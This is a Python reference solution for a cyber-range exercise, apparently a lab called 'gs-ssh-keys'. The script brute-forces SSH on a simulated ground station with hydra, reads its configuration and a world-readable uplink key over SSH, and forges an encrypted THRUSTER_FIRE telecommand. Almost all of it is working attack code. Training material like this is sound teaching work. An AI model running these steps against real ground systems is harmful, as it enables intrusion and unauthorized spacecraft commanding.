"""Reference attack for gs-ssh-keys: run on the attacker workstation, as the student.

1. Listen on the uplink air (UDP 5101 on the rf segment) for the whole attack: every TC
   frame carries its SDLS header in clear, and the IV of an AES-GCM frame is the SA's
   counter -- the next frame must carry a higher one.
2. Brute-force SSH on the ground station for the account `flightops` with hydra and the
   shipped word list of weak passwords.
3. Log in with the password found (paramiko) and read the station's configuration
   (SCID, uplink SPI, key file) and the uplink key itself: the copy it reads is
   world-readable.
4. Build a telecommand with the scapy layers (TC frame, type BD so COP-1 is not
   involved / segment header / space packet / PUS-C: THRUSTER_FIRE), protect it with
   the stolen key (SDLS AES-GCM, sequence number = highest heard + 1) and transmit it to
   rf-link:5100 (``labctl.range.uplinkair``). The spacecraft executes a command that
   mission control never sent.

Exit status 0 when the forged frame was sent; 2 when a step failed (message on the
last line).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
from importlib import resources
from typing import Any

import paramiko
import yaml

from labctl.range.uplinkair import UplinkListener

STATION = "ground-station"
USER = "flightops"
WAIT_FOR_TRAFFIC_S = 90.0


def fail(message: str) -> int:
    print(message, flush=True)
    return 2


def brute_force() -> str | None:
    """The operator's password, found by hydra with the shipped weak-password list."""
    listing = resources.files("labctl") / "data" / "wordlists" / "weak-passwords.txt"
    words = [w for w in listing.read_text().splitlines() if w.strip() and not w.startswith("#")]
    hydra = shutil.which("hydra")
    if hydra is None:
        return None
    with tempfile.TemporaryDirectory() as work:
        wordlist = os.path.join(work, "words.txt")
        with open(wordlist, "w") as out:
            out.write("\n".join(words) + "\n")
        argv = [hydra, "-I", "-f", "-t", "4", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
        print("$", " ".join(argv), flush=True)
        run = subprocess.run(argv, capture_output=True, text=True, cwd=work, check=False)
    found = re.search(rf"login:\s+{USER}\s+password:\s+(\S+)", run.stdout)
    return found[1] if found else None


def steal(password: str) -> tuple[dict[str, Any], bytes]:
    """The station's configuration and the uplink key, read over SSH as the operator."""
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(
        STATION,
        username=USER,
        password=password,
        timeout=15,
        allow_agent=False,
        look_for_keys=False,
    )
    try:
        config = yaml.safe_load(_read(client, "/etc/labctl/ground-station.yaml"))
        key_file = config["uplink"]["sa"].get("key_file", "/etc/labctl/keys/uplink.key")
        key = bytes.fromhex("".join(_read(client, key_file).split()))
    finally:
        client.close()
    return config, key


def _read(client: paramiko.SSHClient, path: str) -> str:
    _, stdout, stderr = client.exec_command(f"cat {path}", timeout=15)
    text = stdout.read().decode()
    if stdout.channel.recv_exit_status() != 0:
        raise OSError(f"cat {path}: {stderr.read().decode().strip()}")
    return text


def main() -> int:
    heard = UplinkListener().start()

    password = brute_force()
    if password is None:
        return fail(f"no password found for {USER}@{STATION}")
    print(f"password of {USER}: {password}", flush=True)
    try:
        config, key = steal(password)
    except (OSError, paramiko.SSHException, KeyError, TypeError, ValueError) as exc:
        return fail(f"could not read the uplink key over SSH: {exc}")
    scid, spi = int(config["scid"]), int(config["uplink"]["sa"]["spi"])
    print(f"SCID {scid}, uplink SPI {spi}, key {key.hex()}", flush=True)

    sent = heard.fire(key, spi, WAIT_FOR_TRAFFIC_S)
    if sent is None:
        return fail(f"no uplink frame on SPI {spi} heard: wait for mission control to command")
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
